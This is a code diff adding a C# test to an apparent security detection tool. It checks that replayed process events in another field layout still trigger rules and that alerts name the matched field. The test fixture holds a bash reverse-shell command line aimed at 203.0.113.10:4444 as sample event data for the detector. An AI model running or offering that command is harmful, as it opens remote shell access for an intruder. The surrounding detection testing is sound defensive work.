@@ -88,6 +88,24 @@ public sealed class ReplaySpec : IDisposable
     }
 
     [Fact]
+    public async Task A_pipeline_lets_rules_find_events_of_another_shape_and_alerts_name_their_fields()
+    {
+        var input = Write("in.ndjson", Of(1),
+            """{"event":{"category":["process"],"type":["start"]},"process":{"executable":"/bin/bash","command_line":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"}}""");
+        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, input)).IsDone();
+        Assert.Single(Read());
+        var result = await Cli.RunAsync("replay", "--json", "--rules", _rules, "--alerts", Alerts, "--pipeline", "ecs", input);
+        result.IsDone();
+
+        var alerts = Read();
+        Assert.Equal(2, alerts.Count);
+        Assert.Contains("process.command_line", alerts[1].ToJsonString(), StringComparison.Ordinal);
+        Assert.DoesNotContain("\"field\":\"process.command_line\"", alerts[0].ToJsonString(), StringComparison.Ordinal);
+        using var summary = JsonDocument.Parse(result.Out);
+        Assert.Equal(1, summary.RootElement.GetProperty("rules").GetInt32());
+    }
+
+    [Fact]
     public async Task The_same_replay_gives_the_same_alerts()
     {
         var input = Write("in.ndjson", [.. Enumerable.Range(1, 2000).Select(pid => pid % 3 == 0 ? Of(pid) : Quiet)]);
